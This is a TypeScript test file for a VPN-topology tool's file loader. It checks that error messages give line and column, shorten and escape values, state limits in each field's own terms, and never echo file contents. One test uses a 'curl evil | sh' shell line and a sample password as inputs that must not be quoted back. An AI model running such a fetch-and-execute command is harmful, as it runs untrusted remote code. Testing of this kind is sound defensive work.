// Messages a person can act on, and that do not hand the file back to whoever shows them: no
// JSON.parse snippet, values shortened and escaped, limits in the field's terms, numbers named
// as what they are, format-1 files in format-1 terms.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { GatewaySchema } from '../../../shared/model/document';
import { describeErrors, type LoadResult } from '../../../shared/model/file';
import { loadDocumentText, serializeDocument } from '../../../shared/document/file';
import { panAsaInterop } from '../../../shared/templates/pan-asa-interop';

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

const base = (): Json => JSON.parse(serializeDocument(panAsaInterop())) as Json;

function errorsOf(r: LoadResult): string {
  expect(r.ok).toBe(false);
  return r.ok ? '' : `${r.summary}\n${describeErrors(r.errors, 100)}`;
}

describe('NOT_JSON', () => {
  it('gives line and column, never the text around the error', () => {
    const secret = 'SECRET-CONTENT-OF-SOME-DOTFILE';
    const text = `{"formatVersion": 2,\n  "name": "x",\n  ${secret} = 1\n}`;
    const r = loadDocumentText(text);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.code).toBe('NOT_JSON');
    expect(r.errors[0]).toMatchObject({ line: 3, column: 3 });
    expect(errorsOf(r)).toContain('line 3, column 3: expected a field name in double quotes');
    expect(JSON.stringify(r)).not.toContain('SECRET');
  });

  it('quotes nothing of a shell script, whatever the error', () => {
    for (const text of ['#!/bin/sh\ncurl evil | sh\n', 'export PASSWORD=hunter2', '{"a": "hunter2', '{"a": tru', '[1, 2, hunter2]']) {
      const r = loadDocumentText(text);
      expect(JSON.stringify(r)).not.toMatch(/hunter2|curl|PASSWORD|evil/);
    }
  });

  it('says where a truncated file ends', () => {
    const s = serializeDocument(panAsaInterop());
    const r = loadDocumentText(s.slice(0, 200));
    expect(errorsOf(r)).toMatch(/truncated/);
  });
});

describe('values in messages', { timeout: 120_000 }, () => {
  it('shortens a 1 MiB value to a few dozen characters', () => {
    const doc = base();
    doc.networks[0].address = 'x'.repeat(1024 * 1024);
    doc.gateways[0].vendor = 'y'.repeat(1024 * 1024);
    const r = loadDocumentText(JSON.stringify(doc));
    const text = errorsOf(r);
    expect(text.length).toBeLessThan(2000);
    // An address field has a length limit: its message says how long the value is, quoting none of it.
    expect(text).toContain('networks[0].address: is 1048576 characters long; at most 100 are allowed');
    expect(text).toContain(`"${'y'.repeat(40)}…"`);
  });

  it('escapes terminal sequences, line breaks and bidi overrides in a quoted value', () => {
    const doc = base();
    doc.networks[0].address = '10.0.0.0/24\u001b[2J\nfake: line\u202e';
    const text = errorsOf(loadDocumentText(JSON.stringify(doc)));
    expect(text).toContain('"10.0.0.0/24\\u001b[2J\\nfake: line\\u202e"');
    expect(text).not.toContain('\u001b');
    expect(text).not.toContain('\u202e');
    expect(text.split('\n').some((l) => l.startsWith('fake'))).toBe(false);
  });

  it('shortens and escapes an unknown field name', () => {
    const doc = base();
    doc.gateways[0][`k\u001b${'z'.repeat(5000)}`] = 1;
    const text = errorsOf(loadDocumentText(JSON.stringify(doc)));
    expect(text.length).toBeLessThan(1000);
    expect(text).not.toContain('\u001b');
  });
});

describe('limits in the field\'s terms', () => {
  const messageFor = (mutate: (d: Json) => void, text?: (s: string) => string): string => {
    const doc = base();
    mutate(doc);
    const s = JSON.stringify(doc);
    return errorsOf(loadDocumentText(text ? text(s) : s));
  };

  it('a fraction in a whole-number field: "must be a whole number" and the real bounds', () => {
    const m = messageFor((d) => { d.tunnels[0].a.esp.lifetimeSeconds = 1.5; });
    expect(m).toContain('tunnels[0].a.esp.lifetimeSeconds: must be a whole number from 60 to 31536000, not 1.5');
    expect(m).not.toMatch(/9007199254740991|a int\b|int\b/);
  });

  it('an integer far too large: the field\'s maximum, not the safe-integer range', () => {
    const m = messageFor((d) => { d.tunnels[0].a.ike.lifetimeSeconds = 1e20; });
    expect(m).toContain('tunnels[0].a.ike.lifetimeSeconds: 100000000000000000000 is above the maximum 31536000');
    expect(m).not.toContain('9007199254740991');
  });

  it('1e308 is named as a number above the maximum', () => {
    const m = messageFor(() => {}, (s) => s.replace('"lifetimeSeconds":28800', '"lifetimeSeconds":1e308'));
    expect(m).toContain('1e308 is above the maximum 31536000');
  });

  it('1e999 is named as a number too large to be represented', () => {
    const m = messageFor(() => {}, (s) => s.replace('"lifetimeSeconds":28800', '"lifetimeSeconds":1e999'));
    expect(m).toMatch(/lifetimeSeconds: is a number too large to be represented: it must be a whole number from 60 to 31536000/);
  });

  it('a field without a maximum still names no internal limit', () => {
    const m = messageFor((d) => { d.tunnels[0].a.esp.lifetimeKilobytes = 1e20; });
    expect(m).toContain('lifetimeKilobytes: 100000000000000000000 is too large: it must be a whole number of at least 0 with at most 15 digits');
    expect(m).not.toContain('9007199254740991');
  });

  it('"must be an integer"-style grammar: no "a int", and types in words', () => {
    const m = messageFor((d) => {
      d.tunnels[0].a.dpd.intervalSeconds = 'ten';
      d.gateways[0].interfaces = 5;
      d.tunnels[0].a.natTraversal = 'yes';
      d.tunnels[0].a.ikeVersion = 3;
    });
    expect(m).toContain('tunnels[0].a.dpd.intervalSeconds: must be a whole number from 1 to 3600, not "ten"');
    expect(m).toContain('gateways[0].interfaces: must be a list, not 5');
    expect(m).toContain('tunnels[0].a.natTraversal: must be true or false, not "yes"');
    expect(m).toContain('tunnels[0].a.ikeVersion: must be one of 1, 2, not 3');
    expect(m).not.toMatch(/\ba int\b|Invalid input/);
  });

  it('a name too long says how long it is and what is allowed', () => {
    const m = messageFor((d) => { d.gateways[0].name = 'n'.repeat(100_000); });
    expect(m).toContain(`gateways[0].name: is 100000 characters long; at most ${GatewaySchema.shape.name.maxLength} are allowed: shorten it`);
  });

  it('a missing field says it is missing and what it must be', () => {
    const m = messageFor((d) => { delete d.gateways[0].vpnType; });
    expect(m).toContain('gateways[0].vpnType: is missing: it must be one of "route-based", "policy-based"');
  });
});

describe('format 1 errors in format 1 terms', () => {
  const v1 = (): Json => JSON.parse(readFileSync(path.join(__dirname, '..', '..', 'fixtures', 'formats', 'v1.json'), 'utf8')) as Json;

  it('names coordinates as x/y and selectors as selectors', () => {
    const doc = v1();
    doc.gateways[0].x = 'left';
    doc.networks[1].y = null;
    doc.tunnels[0].b.selectors[0].local = '10.2.0.1/24';
    doc.tunnels[0].a.selectors[0].proto = 6;
    const m = errorsOf(loadDocumentText(JSON.stringify(doc)));
    expect(m).toContain('gateways[0].x: must be a number, not "left"');
    expect(m).toContain('networks[1].y: must be a number, not null');
    expect(m).toContain('tunnels[0].b.selectors[0].local: "10.2.0.1/24" is not a valid prefix');
    expect(m).toContain('tunnels[0].a.selectors[0]: unknown field "proto"');
    expect(m).not.toMatch(/position|proxyIds/);
  });

  it('reports a format 1 gateway that has both x/y and a position instead of dropping either', () => {
    const doc = v1();
    doc.gateways[0].position = { x: 1, y: 2 };
    const m = errorsOf(loadDocumentText(JSON.stringify(doc)));
    expect(m).toContain('gateways[0]: unknown field "position"');
  });
});

describe('many errors', { timeout: 120_000 }, () => {
  it('a file with 200,000 bad entries gives a bounded list that says how many more there are', () => {
    const doc = base();
    doc.gateways = Array.from({ length: 200_000 }, (_, i) => i);
    const r = loadDocumentText(JSON.stringify(doc));
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.summary).toMatch(/^The file has 200000 errors/);
    expect(r.errors.length).toBeLessThanOrEqual(101);
    expect(r.errors.at(-1)!.message).toBe('… and 199900 more errors');
    expect(JSON.stringify(r).length).toBeLessThan(50_000);
  });
});
